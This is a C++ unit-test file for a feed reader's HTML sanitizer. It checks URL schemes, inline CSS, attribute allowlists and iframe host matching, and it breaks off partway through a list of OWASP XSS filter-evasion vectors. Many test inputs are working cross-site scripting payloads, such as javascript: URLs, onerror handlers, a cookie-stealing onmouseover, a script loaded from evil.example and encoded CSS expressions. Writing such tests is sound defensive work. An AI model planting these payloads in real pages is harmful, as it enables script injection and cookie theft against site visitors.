#include "article/sanitize.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "article/article.hpp"
#include "article/summary_check.hpp"
#include "lib/curl/url.hpp"
#include "lib/gumbo/html_tree.hpp"

namespace feedd::article {
namespace {

const std::string kProxy = "https://cors.zfour.workers.dev/?";
const std::string kBase = "https://www.example.com/news/2021/a.html";
const std::vector<std::string> kHosts = {"player.bilibili.com", "v.qq.com"};

RewriteOptions options(std::vector<std::string> hosts = {}) {
  return {.base_url = kBase, .image_proxy = kProxy, .iframe_hosts = std::move(hosts)};
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in) << path;
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

std::string lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return s;
}

// --- the policy functions ---------------------------------------------------------------------

TEST(UrlScheme, SeesThroughWhatBrowsersIgnore) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"https://a.example/", "https"},
      {"HTTP://a.example/", "http"},
      {"JaVaScRiPt:alert(1)", "javascript"},
      {" \t\n javascript:alert(1)", "javascript"},
      {"java\tscript:alert(1)", "javascript"},
      {"java\nscr\ript:alert(1)", "javascript"},
      {"\x01\x0e javascript:alert(1)", "javascript"},
      {"vbscript:msgbox(1)", "vbscript"},
      {"svn+ssh://host/x", "svn+ssh"},
      {"/path/x.png", ""},
      {"x.png", ""},
      {"//cdn.example/x.png", ""},
      {"#fn1", ""},
      {"?page=2", ""},
      {"a/b:c", ""},
      {"12:30", ""},
      {"\xc2\xa0javascript:alert(1)", ""},  // NBSP is not stripped by browsers: a relative URL
      {"java\xef\xbf\xbdscript:alert(1)", ""},
      {"", ""},
  };
  for (const auto& [url, scheme] : cases)
    EXPECT_EQ(url_scheme(url), scheme) << url;
}

TEST(SanitizeSrcset, EveryCandidateUnderTheUrlContract) {
  const std::vector<std::pair<std::string, std::optional<std::string>>> cases = {
      {"https://a.example/1.png 1x, https://a.example/2.png 2x",
       "https://a.example/1.png 1x, https://a.example/2.png 2x"},
      {"http://a.example/flow.png 900w", "http://a.example/flow.png 900w"},
      {"a.png, b.png 2x",
       "https://www.example.com/news/2021/a.png, "
       "https://www.example.com/news/2021/b.png 2x"},
      {"https://a.example/x.png?w=1,2 1x", "https://a.example/x.png?w=1,2 1x"},
      // One https URL with a comma in it, not two candidates.
      {"https://a.example/x.png,javascript:alert(1) 2x",
       "https://a.example/x.png,javascript:alert(1) 2x"},
      {"https://a.example/1.png 1x, javascript:alert(1) 2x", "https://a.example/1.png 1x"},
      {"https://a.example/1.png (a,b) 1x, data:text/html,x 2x", "https://a.example/1.png (a,b) 1x"},
      {"https://a.example/\"onerror=x.png 1x", "https://a.example/%22onerror=x.png 1x"},
      {"javascript:alert(1) 1x, data:image/png;base64,AAAA 2x", std::nullopt},
      {"  ,, ", std::nullopt},
      {"", std::nullopt},
  };
  for (const auto& [srcset, want] : cases)
    EXPECT_EQ(sanitize_srcset(srcset, kBase), want) << srcset;
}

TEST(SanitizeStyle, DropsDeclarationsThatLoadOrRun) {
  const std::vector<std::pair<std::string, std::optional<std::string>>> cases = {
      {"color: rgb(52, 52, 52);line-height: 2;box-sizing: border-box;",
       "color: rgb(52, 52, 52);line-height: 2;box-sizing: border-box;"},
      {"transform: rotate(0deg);-webkit-transform: rotate(0deg)",
       "transform: rotate(0deg);-webkit-transform: rotate(0deg)"},
      {"font-family: \"微软雅黑\", sans-serif", "font-family: \"微软雅黑\", sans-serif"},
      {"", ""},
      {"color:red;background:url(https://t.example/p.gif);font-size:14px",
       "color:red;font-size:14px"},
      {"background-image: URL ( 'x.png' )", std::nullopt},
      {"width: expression(alert(1));color:red", "color:red"},
      {"xss:ex/**/pression(alert(1))", std::nullopt},
      {"background:\\75 rl(javascript:alert(1))", std::nullopt},
      {"width: \xef\xbd\x85\xef\xbd\x98\xef\xbd\x90\xef\xbd\x92\xef\xbd\x85\xef\xbd\x93\xef\xbd\x93"
       "\xef\xbd\x89\xef\xbd\x8f\xef\xbd\x8e(alert(1))",
       std::nullopt},
      {"behavior: url(xss.htc)", std::nullopt},
      {"-moz-binding: url(https://x.example/x.xml#x)", std::nullopt},
      {"-ms-behavior: x", std::nullopt},
      {"background-image: -webkit-image-set('x.png' 1x)", std::nullopt},
      {"background: image('x.png')", std::nullopt},
      {"background: -moz-element(#secret)", std::nullopt},
      {"color: javascript:alert(1)", std::nullopt},
      {"position: fixed; top: 0; left: 0", " top: 0; left: 0"},
      {"position:absolute;color:red", "position:absolute;color:red"},
      {";;url(x);", std::nullopt},
  };
  for (const auto& [css, expected] : cases)
    EXPECT_EQ(sanitize_style(css), expected) << css;
}

// Every banned string, wherever it stands in a declaration and however it is spelled (case,
// white space, fullwidth forms), drops that declaration and keeps the others.
TEST(SanitizeStyle, EveryBannedStringAnywhere) {
  const std::vector<std::string> banned = {
      "\\",       "/*",      "url(",        "image(",        "image-set(", "cross-fade(",
      "element(", "src(",    "expression(", "javascript:",   "vbscript:",  "livescript:",
      "behavior", "binding", "@import",     "position:fixed"};
  const auto spaced = [](const std::string& b) {
    std::string out;
    for (const char c : b) {
      out += c;
      out += ' ';
    }
    return out;
  };
  const auto upper = [](std::string b) {
    for (char& c : b)
      c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    return b;
  };
  for (const std::string& b : banned) {
    for (const std::string& form : {b, spaced(b), upper(b), "\xef\xbd\x85" + b}) {
      for (const std::string& declaration : {form, "x:" + form, "x:" + form + "y", "x" + form}) {
        EXPECT_EQ(sanitize_style(declaration), std::nullopt) << declaration;
        EXPECT_EQ(sanitize_style("color:red;" + declaration + ";margin:0"), "color:red;margin:0")
            << declaration;
      }
    }
    // Cut short by one byte at either end, it is harmless.
    if (b.size() > 2) {
      const std::string head = b.substr(0, b.size() - 1);
      const std::string tail = b.substr(1);
      EXPECT_EQ(sanitize_style("x:" + head), "x:" + head) << head;
      EXPECT_EQ(sanitize_style("x:" + tail), "x:" + tail) << tail;
    }
  }
}

TEST(ElementAction, KeepUnwrapDrop) {
  for (const char* name :
       {"p",      "section", "span",   "img",        "a",    "table", "td",
        "figure", "video",   "source", "details",    "ruby", "time",  "h1",
        "h6",     "pre",     "code",   "blockquote", "sup",  "wbr",   "picture"}) {
    EXPECT_EQ(element_action(name), ElementAction::keep) << name;
  }
  for (const char* name : {"font", "center", "o:p", "big", "tt", "nobr", "label", "fieldset",
                           "marquee", "blink", "my-widget", "acronym", "dialog", "map"}) {
    EXPECT_EQ(element_action(name), ElementAction::unwrap) << name;
  }
  for (const char* name :
       {"script",   "style",  "noscript", "template",  "iframe",  "frame", "frameset",
        "object",   "embed",  "applet",   "param",     "form",    "input", "button",
        "textarea", "select", "option",   "base",      "meta",    "link",  "title",
        "svg",      "math",   "xmp",      "plaintext", "noembed", "area"}) {
    EXPECT_EQ(element_action(name), ElementAction::drop) << name;
  }
}

TEST(FilterAttribute, AllowlistPerElement) {
  struct Case {
    std::string element, name, value;
    std::optional<std::string> expected;
  };
  const std::vector<Case> cases = {
      {"p", "class", "x", "x"},
      {"div", "id", "id_imagebox_0", "id_imagebox_0"},
      {"img", "data-original", "http://a.example/1.jpg", "http://a.example/1.jpg"},
      {"span", "data-ratio", "0.75", "0.75"},
      {"span", "data-href", "javascript:alert(1)", std::nullopt},
      {"img", "data-src", "data:image/gif;base64,R0lGOD", std::nullopt},
      {"img", "data-src", "/i/1.jpg", "https://www.example.com/i/1.jpg"},
      {"img", "data-actualsrc", "https://a.example/x\"y", "https://a.example/x%22y"},
      {"img", "data-w", "640", "640"},
      {"img", "data-type", "png", "png"},
      {"div", "data-ng-init", "x=1", std::nullopt},
      {"div", "data-bind", "html: x", std::nullopt},
      {"a", "data-toggle", "tooltip", std::nullopt},
      {"a", "data-html", "true", std::nullopt},
      {"span", "data-x_y.z", "1", std::nullopt},
      {"img", "data-src", "data:text/html,x", std::nullopt},
      {"span", "data-", "x", std::nullopt},
      {"span", "data-a\"b", "x", std::nullopt},
      {"section", "powered-by", "xiumi.us", std::nullopt},
      {"p", "onclick", "", std::nullopt},
      {"img", "onerror", "alert(1)", std::nullopt},
      {"img", "alt", "图 1", "图 1"},
      {"img", "alt", "<img src=x onerror=alert(1)>", "img src=x onerror=alert(1)"},
      {"img", "alt", "x\" onmouseover=\"alert(1)", "x onmouseover=alert(1)"},
      {"a", "href", "https://a.example/", "https://a.example/"},
      {"a", "href", "javascript:alert(1)", std::nullopt},
      {"a", "href", "mailto:x@example.com", std::nullopt},
      {"a", "href", "/p/2", "https://www.example.com/p/2"},
      {"a", "href", "#fn", "https://www.example.com/news/2021/a.html#fn"},
      {"a", "href", "http://example.com/\"><script>alert(1)</script>",
       "http://example.com/%22%3e%3cscript%3ealert(1)%3c/script%3e"},
      {"a", "href", "data:text/html,<script>alert(1)</script>", std::nullopt},
      {"a", "target", "_blank", "_blank"},
      {"a", "ping", "https://t.example/", std::nullopt},
      {"div", "href", "https://a.example/", std::nullopt},
      {"img", "src", "data:image/png;base64,AAAA", std::nullopt},
      {"img", "src", "https://a.example/?http://example.com/\"onerror=alert(1)//",
       "https://a.example/?http://example.com/%22onerror=alert(1)//"},
      {"video", "poster", "p.jpg", "https://www.example.com/news/2021/p.jpg"},
      {"video", "src", "data:image/png;base64,AAAA", std::nullopt},
      {"video", "poster", "javascript:alert(1)", std::nullopt},
      {"video", "autoplay", "", std::nullopt},
      // Issue 12: without controls a reader shows a video that cannot be started.
      {"video", "controls", "", ""},
      {"audio", "controls", "", ""},
      {"img", "dynsrc", "x.avi", std::nullopt},
      {"img", "lowsrc", "x.png", std::nullopt},
      {"table", "background", "x.png", std::nullopt},
      {"td", "colspan", "2", "2"},
      {"ol", "start", "3", "3"},
      {"time", "datetime", "2021-05-21", "2021-05-21"},
      {"q", "cite", "javascript:alert(1)", std::nullopt},
      {"button", "formaction", "https://a.example/", std::nullopt},
      {"iframe", "srcdoc", "<script>alert(1)</script>", std::nullopt},
      {"iframe", "sandbox", "allow-scripts allow-same-origin allow-popups",
       "allow-scripts allow-same-origin allow-popups"},
      {"iframe", "sandbox", "allow-top-navigation", std::nullopt},
      {"html", "xmlns", "http://www.w3.org/1999/xhtml", std::nullopt},
      {"p", "xml:lang", "zh", std::nullopt},
      {"p", "style", "color:red;background:url(x)", "color:red"},
      {"p", "style", "background:url(x)", std::nullopt},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(filter_attribute(c.element, c.name, c.value, kBase), c.expected)
        << c.element << " " << c.name << "=" << c.value;
  }
}

TEST(IframeAllowed, ExactHostOnly) {
  const std::vector<std::pair<std::string, bool>> cases = {
      {"https://player.bilibili.com/player.html?bvid=BV1xx", true},
      {"http://PLAYER.bilibili.com/player.html", true},
      {"https://v.qq.com/txp/iframe/player.html?vid=x", true},
      {"https://evil.example/?player.bilibili.com", false},
      {"https://player.bilibili.com.evil.example/", false},
      {"https://sub.v.qq.com/x", false},
      {"https://evil.example\\@player.bilibili.com/", false},
      {"https://player.bilibili.com@evil.example/", false},
      {"https://player.bilibili.com\t.evil.example/", false},
      {"//player.bilibili.com/player.html", false},  // resolve first
      {"javascript:alert(1)//player.bilibili.com", false},
      {"ftp://player.bilibili.com/", false},
  };
  for (const auto& [src, allowed] : cases)
    EXPECT_EQ(iframe_allowed(src, kHosts), allowed) << src;
  EXPECT_FALSE(iframe_allowed("https://player.bilibili.com/x", {}));
}

// --- an independent check of output --------------------------------------------------------

// Everything a reader or the feed validator could object to in `html`, parsed as a fragment in
// `context` (a table cell sees tokens a <div> ignores) or as a whole page (GUMBO_TAG_LAST), where
// a stray <body onload> lands on the page's body.
std::vector<std::string> problems_in(const std::string& html, GumboTag context,
                                     const std::vector<std::string>& hosts) {
  static const std::vector<std::string> kAllowed = {
      "a",          "abbr",    "address", "article", "aside",   "audio", "b",        "bdi",
      "blockquote", "br",      "caption", "cite",    "code",    "col",   "colgroup", "dd",
      "del",        "details", "dfn",     "div",     "dl",      "dt",    "em",       "figcaption",
      "figure",     "footer",  "h1",      "h2",      "h3",      "h4",    "h5",       "h6",
      "header",     "hr",      "i",       "img",     "ins",     "kbd",   "li",       "main",
      "mark",       "nav",     "ol",      "p",       "picture", "pre",   "q",        "rp",
      "rt",         "ruby",    "s",       "samp",    "section", "small", "source",   "span",
      "strong",     "sub",     "summary", "sup",     "table",   "tbody", "td",       "tfoot",
      "th",         "thead",   "time",    "tr",      "u",       "ul",    "var",      "video",
      "wbr"};
  static const std::vector<std::string> kUrlAttributes = {
      "href",   "src",  "poster",   "cite",     "action", "formaction", "background", "lowsrc",
      "dynsrc", "data", "codebase", "longdesc", "srcset", "xlink:href", "ping",       "usemap"};
  std::vector<std::string> problems;
  const std::string text = lower(html);
  for (const char* needle : {"<script", "<style", "<meta", "<embed", "<object", "<svg", "<math",
                             "<!--", "<?", "<link", "<base", "<form"}) {
    if (text.find(needle) != std::string::npos) problems.push_back(std::string("text ") + needle);
  }
  if (hosts.empty() && text.find("<iframe") != std::string::npos) problems.push_back("<iframe");

  const auto tree = lib::HtmlTree::parse(html, {.fragment_context = context});
  if (!tree) return {"unparseable"};
  std::vector<const GumboNode*> stack{tree->document()};
  while (!stack.empty()) {
    const GumboNode* node = stack.back();
    stack.pop_back();
    if (node->type == GUMBO_NODE_COMMENT) problems.push_back("comment");
    if (node->type == GUMBO_NODE_ELEMENT || node->type == GUMBO_NODE_TEMPLATE) {
      const GumboElement& e = node->v.element;
      GumboStringPiece piece = e.original_tag;
      gumbo_tag_from_original_text(&piece);
      const std::string name = e.tag == GUMBO_TAG_UNKNOWN
                                   ? lower(std::string(lib::view(piece)))
                                   : std::string(gumbo_normalized_tagname(e.tag));
      const bool page =
          e.tag == GUMBO_TAG_HTML || e.tag == GUMBO_TAG_HEAD || e.tag == GUMBO_TAG_BODY;
      const bool framed = e.tag == GUMBO_TAG_IFRAME && !hosts.empty();
      if (e.tag_namespace != GUMBO_NAMESPACE_HTML) problems.push_back("foreign " + name);
      if (!page && !framed && std::find(kAllowed.begin(), kAllowed.end(), name) == kAllowed.end()) {
        problems.push_back("element " + name);
      }
      if (framed) {
        const GumboAttribute* sandbox = gumbo_get_attribute(&e.attributes, "sandbox");
        const GumboAttribute* src = gumbo_get_attribute(&e.attributes, "src");
        if (!sandbox || std::string(sandbox->value) != kIframeSandbox)
          problems.push_back("sandbox");
        if (!src || !iframe_allowed(src->value, hosts)) problems.push_back("iframe src");
      }
      for (unsigned i = 0; i < e.attributes.length; ++i) {
        const GumboAttribute* a = lib::attribute(e.attributes, i);
        const std::string key = a->name;
        const std::string value = a->value;
        if (page) problems.push_back("page attribute " + key);
        if (key.starts_with("on")) problems.push_back("handler " + key);
        if (key == "formaction" || key == "srcdoc" || key == "xmlns" || key == "autoplay") {
          problems.push_back("attribute " + key);
        }
        if (std::find(kUrlAttributes.begin(), kUrlAttributes.end(), key) != kUrlAttributes.end()) {
          // The URL contract: absolute http(s), nothing a browser would read otherwise.
          if (key == "srcset") {
            if (!sanitize_srcset(value, "") || *sanitize_srcset(value, "") != value) {
              problems.push_back("srcset " + value);
            }
          } else if (lib::web_url(value) != value) {
            problems.push_back(key + "=" + value);
          }
        }
        if (key == "style") {
          std::string css;
          for (char c : lower(value))
            if (static_cast<unsigned char>(c) > 0x20) css += c;
          for (const char* bad : {"url(", "expression(", "behavior", "binding",
                                  "javascript:", "image-set(", "\\", "/*", "position:fixed"}) {
            if (css.find(bad) != std::string::npos) problems.push_back("style " + value);
          }
        }
      }
    }
    const GumboVector& children = lib::children_of(node);
    for (unsigned i = 0; i < children.length; ++i)
      stack.push_back(lib::child(children, i));
  }
  return problems;
}

std::vector<std::string> problems(const std::string& html,
                                  const std::vector<std::string>& hosts = {}) {
  std::vector<std::string> all;
  for (GumboTag context :
       {GUMBO_TAG_DIV, GUMBO_TAG_TABLE, GUMBO_TAG_TR, GUMBO_TAG_TD, GUMBO_TAG_UL, GUMBO_TAG_LAST}) {
    for (auto& p : problems_in(html, context, hosts)) {
      all.push_back(std::string(gumbo_normalized_tagname(context)) + ": " + p);
    }
  }
  return all;
}

std::string joined(const std::vector<std::string>& v) {
  std::string out;
  for (const auto& s : v)
    out += s + "\n";
  return out;
}

// --- rules, one case each ----------------------------------------------------------------------

struct RuleCase {
  std::string name;
  std::string input;
  std::string expected;
  std::vector<std::string> hosts = {};
};

const std::vector<RuleCase> kRules = {
    // --- elements
    // --------------------------------------------------------------------------
    {"unknown and presentational wrappers unwrapped, content kept",
     R"~(<font face="宋体" color="red">红</font><center>中</center><o:p></o:p><big>大</big><my-widget data-x="1">w</my-widget>)~",
     R"~(红中大w)~"},
    {"wrapper inside a kept element: only its tags go",
     R"~(<p class="a"><font color="#333">一<b>二</b></font>三</p>)~",
     R"~(<p class="a">一<b>二</b>三</p>)~"},
    {"script, style, noscript, template and title removed with their content",
     R"~(<p>1</p><script>alert(1)</script><style>p{}</style><noscript><img src="https://a.example/n.jpg"></noscript><template><p>t</p></template><title>x</title><p>2</p>)~",
     R"~(<p>1</p><p>2</p>)~"},
    {"object, embed, applet and param removed with their content",
     R"~(<p>1</p><object data="https://a.example/x.swf"><param name="movie" value="x.swf"><embed src="https://a.example/x.swf"></object><applet code="X.class">j</applet><p>2</p>)~",
     R"~(<p>1</p><p>2</p>)~"},
    {"form controls removed with their content",
     R"~(<p>1</p><form action="https://a.example/login"><input name="u"><button>go</button></form><textarea>t</textarea><select><option>o</option></select><p>2</p>)~",
     R"~(<p>1</p><p>2</p>)~"},
    {"meta, link and base removed",
     R"~(<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/"><p>x</p>)~",
     R"~(<p>x</p>)~"},
    {"svg and math removed with their content",
     R"~(<section><svg viewBox="0 0 1 1" style="float:left"/></section><p><math><mi>x</mi></math>y</p>)~",
     R"~(<section></section><p>y</p>)~"},
    {"structure, tables and text-level elements kept byte for byte",
     R"~(<article><header><h2 id="t">题</h2></header><table border="1" cellpadding="2"><caption>表</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">A</th><th>B</th></tr></thead><tbody><tr><td colspan="2" rowspan="1" align="center">c</td></tr></tbody></table><figure><img src="https://a.example/f.jpg" alt="f" referrerpolicy="no-referrer"><figcaption>图</figcaption></figure><details open><summary>更多</summary><p>内容</p></details><ol start="3" type="a"><li>x</li></ol><dl><dt>t</dt><dd>d</dd></dl><p><ruby>汉<rp>(</rp><rt>hàn</rt><rp>)</rp></ruby><time datetime="2021-05-21">五月</time><q cite="https://a.example/">引</q><abbr title="缩写">abbr</abbr><del>d</del><ins>i</ins><sub>1</sub><sup>2</sup><mark>m</mark><small>s</small><kbd>k</kbd><code>c</code></p><pre>  pre  </pre><blockquote>b</blockquote><hr><footer>f</footer></article>)~",
     R"~(<article><header><h2 id="t">题</h2></header><table border="1" cellpadding="2"><caption>表</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">A</th><th>B</th></tr></thead><tbody><tr><td colspan="2" rowspan="1" align="center">c</td></tr></tbody></table><figure><img src="https://a.example/f.jpg" alt="f" referrerpolicy="no-referrer"><figcaption>图</figcaption></figure><details open><summary>更多</summary><p>内容</p></details><ol start="3" type="a"><li>x</li></ol><dl><dt>t</dt><dd>d</dd></dl><p><ruby>汉<rp>(</rp><rt>hàn</rt><rp>)</rp></ruby><time datetime="2021-05-21">五月</time><q cite="https://a.example/">引</q><abbr title="缩写">abbr</abbr><del>d</del><ins>i</ins><sub>1</sub><sup>2</sup><mark>m</mark><small>s</small><kbd>k</kbd><code>c</code></p><pre>  pre  </pre><blockquote>b</blockquote><hr><footer>f</footer></article>)~"},
    {"video and audio kept with controls, without autoplay; picture and source kept",
     R"~(<video src="https://v.example/a.mp4" poster="https://v.example/a.jpg" width="640" autoplay controls muted></video><audio src="https://v.example/a.mp3" controls></audio><picture><source srcset="https://a.example/a.webp" type="image/webp"><img src="https://a.example/a.jpg" referrerpolicy="no-referrer"></picture>)~",
     R"~(<video src="https://v.example/a.mp4" poster="https://v.example/a.jpg" width="640" controls muted></video><audio src="https://v.example/a.mp3" controls></audio><picture><source srcset="https://a.example/a.webp" type="image/webp"><img src="https://a.example/a.jpg" referrerpolicy="no-referrer"></picture>)~"},
    // --- attributes
    // ------------------------------------------------------------------------
    {"attributes not on the list removed, the rest keep their order, names lower-case",
     R"~(<table background="https://a.example/bg.png" WIDTH="100%"><tr><td background="javascript:alert(1)" Class=c>c</td></tr></table><a href="https://a.example/" ping="https://t.example/" target="_blank">a</a>)~",
     R"~(<table width="100%"><tbody><tr><td class="c">c</td></tr></tbody></table><a href="https://a.example/" target="_blank">a</a>)~"},
    {"seed attributes outside the validator's list removed: powered-by, opera-tn-ra-cell",
     R"~(<section style="margin: 0;" powered-by="xiumi.us"><section opera-tn-ra-cell="_$.pages:0" style="padding: 0;">x</section></section>)~",
     R"~(<section style="margin: 0;"><section style="padding: 0;">x</section></section>)~"},
    {"event handlers removed, valueless ones too",
     R"~(<div class="img_box" id="id_imagebox_0" onclick><p ONMOUSEOVER="x()" onfocus=y title=t>a</p></div>)~",
     R"~(<div class="img_box" id="id_imagebox_0"><p title="t">a</p></div>)~"},
    {"data attributes: only the inert ones on the list kept",
     R"~(<span data-src="https://a.example/x.png" data-href="javascript:alert(1)" data-x_y.z="1" data-a:b="2" data-ng-init="x" data-ratio="1.5">s</span>)~",
     R"~(<span data-src="https://a.example/x.png" data-ratio="1.5">s</span>)~"},
    {"a repeated attribute: the tag written afresh with the first only",
     R"~(<a href="https://ok.example/" href="javascript:alert(1)">x</a><p class=a class=b>y</p>)~",
     R"~(<a href="https://ok.example/">x</a><p class="a">y</p>)~"},
    {"< and > in attribute values escaped", R"~(<p title="<?import namespace='t'>">t</p>)~",
     R"~(<p title="&lt;?import namespace='t'&gt;">t</p>)~"},
    // --- URLs
    // ------------------------------------------------------------------------------
    {"link schemes: http and https kept, relative and fragments resolved, mailto dropped",
     R"~(<a href="http://a.example/">1</a><a href="mailto:x@example.com">2</a><a href="#fn">3</a><a href="/p/2">4</a>)~",
     R"~(<a href="http://a.example/">1</a><a>2</a><a href="https://www.example.com/news/2021/a.html#fn">3</a><a href="https://www.example.com/p/2">4</a>)~"},
    {"link schemes: everything else removed",
     R"~(<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">1</a><a href="vbscript:msgbox(1)">2</a><a href="tel:123">3</a><a href="file:///etc/passwd">4</a><a href="ftp://a.example/">5</a>)~",
     R"~(<a>1</a><a>2</a><a>3</a><a>4</a><a>5</a>)~"},
    {"image src: data: (raster or SVG) and script URLs removed",
     R"~(<img src="data:image/png;base64,iVBORw0KGgo=" referrerpolicy="no-referrer"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="s"><img src="vbscript:x" alt="v">)~",
     R"~(<img referrerpolicy="no-referrer"><img alt="s" referrerpolicy="no-referrer"><img alt="v" referrerpolicy="no-referrer">)~"},
    {"an unsafe src gives way to a lazy-load attribute",
     R"~(<img src="javascript:alert(1)" data-src="https://a.example/real.jpg">)~",
     R"~(<img src="https://a.example/real.jpg" data-src="https://a.example/real.jpg" referrerpolicy="no-referrer">)~"},
    {"srcset: the unsafe candidate removed, the rest kept; safe srcset and sizes kept",
     R"~(<img src="https://a.example/1.jpg" srcset="https://a.example/1.jpg 1x, javascript:alert(1) 2x" referrerpolicy="no-referrer"><img src="https://a.example/2.jpg" srcset="https://a.example/2.jpg 900w" sizes="100vw" referrerpolicy="no-referrer">)~",
     R"~(<img src="https://a.example/1.jpg" srcset="https://a.example/1.jpg 1x" referrerpolicy="no-referrer"><img src="https://a.example/2.jpg" srcset="https://a.example/2.jpg 900w" sizes="100vw" referrerpolicy="no-referrer">)~"},
    {"poster and cite checked",
     R"~(<video poster="javascript:alert(1)"></video><blockquote cite="vbscript:x">q</blockquote>)~",
     R"~(<video></video><blockquote>q</blockquote>)~"},
    // --- CSS
    // -------------------------------------------------------------------------------
    {"inline styles kept; declarations that load or run removed",
     R"~(<p style="color:red;background:url(https://t.example/p.gif);font-size:14px">a</p><div style="width: expression(alert(1))">b</div><span style="behavior: url(x.htc)">c</span>)~",
     R"~(<p style="color:red;font-size:14px">a</p><div>b</div><span>c</span>)~"},
    {"CSS hidden by entities, escapes and comments removed",
     R"~(<p style="background:&#117;rl(javascript:alert(1))">a</p><p style="background:\75 rl(x)">b</p><p style="xss:ex/**/pression(alert(1))">c</p>)~",
     R"~(<p>a</p><p>b</p><p>c</p>)~"},
    // --- comments and ignored tokens
    // ---------------------------------------------------------
    {"comments removed, conditional and bogus ones too",
     R"~(<p>a</p><!-- note --><!--[if IE]><script>alert(1)</script><![endif]--><?import namespace="t" implementation="#default#time2"><p>b</p>)~",
     R"~(<p>a</p><p>b</p>)~"},
    {"a start tag the parser ignores (td outside a table): written afresh without it",
     R"~(<p class=x>a &amp; b</p><td onclick="alert(1)">c)~", R"~(<p class="x">a &amp; b</p>c)~"},
    {"a doctype inside the body: written afresh without it", R"~(<p>a</p><!DOCTYPE html><p>b</p>)~",
     R"~(<p>a</p><p>b</p>)~"},
    // --- iframes
    // ---------------------------------------------------------------------------
    {"iframe removed when no host is configured",
     R"~(<p>a</p><iframe src="https://player.bilibili.com/player.html?bvid=BV1" width="640"></iframe><p>b</p>)~",
     R"~(<p>a</p><p>b</p>)~"},
    {"iframe of a configured host kept, sandboxed, fallback text removed",
     R"~(<iframe src="https://player.bilibili.com/player.html?bvid=BV1" width="640" height="360" frameborder="0" allowfullscreen>您的浏览器不支持</iframe>)~",
     R"~(<iframe src="https://player.bilibili.com/player.html?bvid=BV1" width="640" height="360" frameborder="0" allowfullscreen sandbox="allow-scripts allow-same-origin allow-popups"></iframe>)~",
     kHosts},
    {"protocol-relative iframe src resolved against the article",
     R"~(<iframe src="//v.qq.com/txp/iframe/player.html?vid=x"></iframe>)~",
     R"~(<iframe src="https://v.qq.com/txp/iframe/player.html?vid=x" sandbox="allow-scripts allow-same-origin allow-popups"></iframe>)~",
     kHosts},
    {"iframe: own sandbox replaced, srcdoc, allow, name and handlers removed",
     R"~(<iframe src="https://v.qq.com/x" sandbox="allow-top-navigation" srcdoc="<script>alert(1)</script>" allow="camera" name="n" onload="x()"></iframe>)~",
     R"~(<iframe src="https://v.qq.com/x" sandbox="allow-scripts allow-same-origin allow-popups"></iframe>)~",
     kHosts},
    {"iframe of another host, a script URL or a confusable URL removed",
     R"~(<iframe src="https://evil.example/player.bilibili.com"></iframe><iframe src="javascript:alert(1)"></iframe><iframe src="https://evil.example\@player.bilibili.com/"></iframe><iframe src="https://player.bilibili.com.evil.example/"></iframe><iframe></iframe>x)~",
     R"~(x)~", kHosts},
    {"unclosed iframe closed", R"~(<p>a</p><iframe src="https://v.qq.com/x">rest of the page)~",
     R"~(<p>a</p><iframe src="https://v.qq.com/x" sandbox="allow-scripts allow-same-origin allow-popups"></iframe>)~",
     kHosts},
};

TEST(Sanitize, Rules) {
  for (const auto& c : kRules) {
    const RewriteResult r = rewrite_html(c.input, options(c.hosts));
    EXPECT_EQ(r.html, c.expected) << c.name;
    EXPECT_EQ(joined(problems(r.html, c.hosts)), "") << c.name;
    EXPECT_TRUE(summary_matches(r)) << c.name;
    EXPECT_EQ(rewrite_html(r.html, options(c.hosts)).html, r.html) << "idempotent: " << c.name;
  }
}

// --- the OWASP XSS filter evasion cheat sheet, as far as it applies to an HTML fragment ---------
// Our own spellings of its vectors (the "evil" host is a placeholder). Each is checked to be
// dangerous before sanitising, so that the check after it is known to be able to fail.

const std::vector<std::string> kOwaspVectors = {
    R"~(<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>)~",
    R"~(javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>)~",
    R"~(<IMG SRC="javascript:alert('XSS');">)~",
    R"~(<IMG SRC=javascript:alert('XSS')>)~",
    R"~(<IMG SRC=JaVaScRiPt:alert('XSS')>)~",
    R"~(<IMG SRC=javascript:alert(&quot;XSS&quot;)>)~",
    R"~(<a onmouseover="alert(document.cookie)">link</a>)~",
    R"~(<a onmouseover=alert(document.cookie)>link</a>)~",
    R"~(<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>)~",
    R"~(<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>)~",
    R"~(<IMG SRC=# onmouseover="alert('xxs')">)~",
    R"~(<IMG onmouseover="alert('xxs')">)~",
    R"~(<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>)~",
    R"~(<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">)~",
    R"~(<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>)~",
    R"~(<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>)~",
    R"~(<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>)~",
